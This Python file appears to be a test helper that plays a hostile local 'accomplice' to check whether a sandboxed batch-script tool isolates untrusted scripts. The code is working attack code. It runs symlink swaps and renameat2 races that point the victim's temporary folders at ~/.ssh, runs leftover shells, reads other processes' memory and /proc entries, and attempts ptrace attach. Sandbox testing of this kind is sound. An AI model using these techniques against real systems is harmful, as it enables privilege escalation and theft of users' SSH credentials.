"""A colleague who helps a hostile script from outside, as long as the file LAB/stop is not there.

`python accomplice.py LAB USER HOME` prints a list in JSON of what came of it. USER is the number of the user who runs the
script and HOME the home folder; the folder LAB/project/theirs is the colleague's, with a socket and a FIFO.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

ATTACH, DETACH, EXCHANGE, AT_FOLDER = 16, 17, 2, -100  # of ptrace(2) and renameat2(2)
LIBC = ctypes.CDLL(None, use_errno=True)


def without_path(lab: Path) -> str:
    """The address of the colleague's socket that has no path."""
    return f"\0{lab.name}"


class Accomplice:
    """What the colleague has, and what came of the attempts."""

    def __init__(self, lab: Path, user: int, home: Path) -> None:
        self.lab, self.user, self.home = lab, user, home
        self.done: set[str] = set()
        self.theirs = lab / "project/theirs"
        self.other = lab / "project/theirs-other"
        self.theirs.mkdir(mode=0o777)
        self.theirs.chmod(0o777)
        self.servers = []
        for address in (str(self.theirs / "socket"), without_path(lab)):
            server = socket.socket(socket.AF_UNIX)
            server.bind(address)
            server.listen()
            server.setblocking(False)
            self.servers.append(server)
        (self.theirs / "socket").chmod(0o777)
        os.mkfifo(self.theirs / "pipe")
        (self.theirs / "pipe").chmod(0o666)
        (self.theirs / "note").write_text("theirs")
        self.pipe = os.open(self.theirs / "pipe", os.O_RDONLY | os.O_NONBLOCK)

    def tries(self) -> None:
        """Try everything once."""
        for what, number in (("socket", 0), ("socket without a path", 1)):
            with contextlib.suppress(BlockingIOError):
                client, _ = self.servers[number].accept()
                client.close()
                self.done.add(what)
        with contextlib.suppress(BlockingIOError):
            if os.read(self.pipe, 1):
                self.done.add("pipe")
        self.enters()
        for process in self.processes():
            self.reaches(process)

    def enters(self) -> None:
        """Enter the victim's temporary folders; use what the script has left for others there."""
        for folder in (
            *(self.lab / "scratch").glob("sbatchgen-*"),
            *(self.lab / "project").glob("sbatchgen-*"),
        ):
            for place in (folder, folder / "run"):
                with contextlib.suppress(OSError):
                    self.done.update(f"listed {place.name}: {name}" for name in ["", *os.listdir(place)])  # noqa: PTH208
            shell = folder / "run/shell"
            with contextlib.suppress(OSError):
                said = subprocess.run(
                    [shell, "-p", "-c", "id -u"], capture_output=True, text=True, check=False
                )
                self.done.add(f"ran a shell as {said.stdout}")
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
                client.connect(str(folder / "run/socket"))
                self.done.add("connected to the script")
            with contextlib.suppress(OSError):
                folder.rename(folder.with_name("accomplice-moved"))
                folder.symlink_to(self.home / ".ssh")
                self.done.add("replaced a temporary folder")

    def processes(self) -> Iterator[int]:
        """The newest processes of the victim."""
        numbers = sorted((int(name) for name in os.listdir("/proc") if name.isdecimal()), reverse=True)  # noqa: PTH208
        for number in numbers[:60]:
            with contextlib.suppress(OSError):
                if Path(f"/proc/{number}").stat().st_uid == self.user:
                    yield number

    def reaches(self, process: int) -> None:
        """Reach into a process."""
        for name in ("root/run", "cwd", "fd", "map_files"):
            with contextlib.suppress(OSError):
                self.done.update(
                    f"{name} of a process: {each.name}" for each in Path(f"/proc/{process}/{name}/").iterdir()
                )
        with contextlib.suppress(OSError):
            Path(f"/proc/{process}/mem").open("rb").close()
            self.done.add("opened the memory of a process")
        if LIBC.ptrace(ATTACH, process, 0, 0) == 0:
            self.done.add("traced a process")
            LIBC.ptrace(DETACH, process, 0, 0)

    def exchanges(self, place: str) -> None:
        """Let the folder and a link to another place change names."""
        self.other.unlink(missing_ok=True)
        self.other.symlink_to(place)
        for _ in range(20):
            time.sleep(0.002)
            for _ in range(2):
                LIBC.renameat2(
                    AT_FOLDER, os.fsencode(self.theirs), AT_FOLDER, os.fsencode(self.other), EXCHANGE
                )


def main(lab: str, user: str, home: str) -> None:
    """Try until it is over."""
    accomplice = Accomplice(Path(lab), int(user), Path(home))
    Path(lab, "scratch/accomplice-ready").touch()
    secrets = f"{home}/.ssh"
    for place in itertools.cycle((secrets, f"/oldroot{secrets}")):
        accomplice.tries()
        accomplice.exchanges(place)
        if Path(lab, "stop").exists():
            break
    print(json.dumps(sorted(accomplice.done)))


if __name__ == "__main__":
    main(*sys.argv[1:])
